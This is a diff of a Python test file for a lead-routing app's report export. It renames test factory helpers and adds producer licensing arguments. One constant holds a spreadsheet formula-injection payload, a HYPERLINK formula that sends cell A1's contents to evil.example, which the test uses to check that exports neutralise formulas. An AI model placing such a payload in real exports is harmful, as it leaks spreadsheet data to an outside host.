@@ -10,8 +10,7 @@ from fastapi.testclient import TestClient
 from leadrouter.bootstrap import Container
 from leadrouter.render.spreadsheet import FORMULA_START
 from leadrouter.services.reports.export import COLUMNS
-from tests.support.factories import make_agency
-from tests.support.time_engine import new_lead, producer
+from tests.support.factories import make_agency, make_lead, make_producer
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 
@@ -24,8 +23,8 @@ def test_no_formula_survives_in_the_export_and_the_text_reads_back_unchanged(
     container: Container, client: TestClient
 ) -> None:
     agency = make_agency(container)
-    producer(container, agency.id, 1)
-    lead = new_lead(
+    make_producer(container, agency.id, 1, licensed_in=("NY",))
+    lead = make_lead(
         container,
         agency.id,
         1,
@@ -55,8 +54,10 @@ def test_the_export_filters_by_status_source_producer_and_dates(
     container: Container, client: TestClient
 ) -> None:
     agency = make_agency(container)
-    alice = producer(container, agency.id, 1)
-    leads = [new_lead(container, agency.id, n, source="Referral" if n else "Web") for n in range(3)]
+    alice = make_producer(container, agency.id, 1, licensed_in=("NY",))
+    leads = [
+        make_lead(container, agency.id, n, source="Referral" if n else "Web") for n in range(3)
+    ]
     client.post(
         f"/v1/leads/{leads[1]}/status",
         headers=agency.headers,
